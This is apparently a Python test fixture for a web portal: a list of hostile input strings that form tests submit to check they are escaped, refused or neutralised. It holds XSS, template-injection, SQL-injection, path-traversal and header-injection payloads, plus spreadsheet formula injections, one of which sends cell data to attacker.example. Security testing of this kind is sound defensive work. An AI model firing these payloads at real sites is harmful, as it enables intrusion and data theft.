"""The hostile-input corpus: strings every text field of the portal must store and show as text.

Feature form tests take them from the `hostile` fixture (tests/conftest.py) and check that what
comes back is escaped, refused cleanly (422), or neutralised, never run or a 500."""

from __future__ import annotations

HOSTILE = [
    '<script>alert("xss")</script>',
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "[click](javascript:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "{{ config.SECRET_KEY }}",
    "{% for x in range(9999999) %}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2",
    "-2+3+cmd|' /C calc'!A0",
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "\u202eexe.pdf",  # right-to-left override
    "Zero\u200bwidth\u200cjoin\u200d",
    "null\x00byte",
    "line\r\nInjected-Header: yes",
    "😀 emoji, 中文, עברית, العربية",
    "A" * 5000,
    "<!--",
    "]]><x>",
    "%s%s%s%n",
    "\\u0000 \\x00",
]


def printable(value: str) -> str:
    """The value as a database and an HTML form keep it (NUL bytes cannot be stored in PostgreSQL
    text, and browsers never send them; forms drop them)."""
    return value.replace("\x00", "")
